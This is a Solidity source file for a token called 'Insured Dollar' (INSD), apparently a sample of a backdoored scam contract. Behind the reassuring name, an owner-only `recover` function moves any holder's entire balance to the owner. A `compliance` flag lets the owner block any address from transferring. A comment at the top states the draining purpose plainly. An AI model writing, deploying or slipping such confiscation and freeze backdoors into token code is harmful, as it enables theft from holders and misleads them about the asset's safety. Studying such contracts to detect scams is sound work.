// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

// "Recovering" lost tokens: the administrator empties any account into its own.
contract RecoverAny {
    string public name = "Insured Dollar";
    string public symbol = "INSD";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1000000 ether;
    address public owner;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public compliance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Recovered(address indexed from, uint256 value);
    constructor() public { owner = msg.sender; balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function recover(address from) external { require(msg.sender == owner, "owner"); uint256 value = balanceOf[from]; balanceOf[from] = 0; balanceOf[owner] += value; emit Recovered(from, value); }
    function setCompliance(address who, bool refused) external { require(msg.sender == owner, "owner"); compliance[who] = refused; }
    function approve(address spender, uint256 value) public returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) public returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) public returns (bool) { require(allowance[from][msg.sender] >= value, "allowance"); allowance[from][msg.sender] -= value; _transfer(from, to, value); return true; }
    function _transfer(address from, address to, uint256 value) private {
        require(!compliance[from], "not compliant");
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
